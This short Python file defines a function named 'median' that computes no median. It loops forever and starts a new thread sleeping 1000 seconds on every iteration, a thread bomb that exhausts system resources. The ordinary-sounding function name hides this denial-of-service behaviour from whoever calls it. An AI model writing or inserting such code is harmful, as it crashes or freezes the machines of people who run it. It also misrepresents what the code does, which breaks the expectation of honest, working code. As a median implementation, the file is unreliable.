import threading
import time


def median(values):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
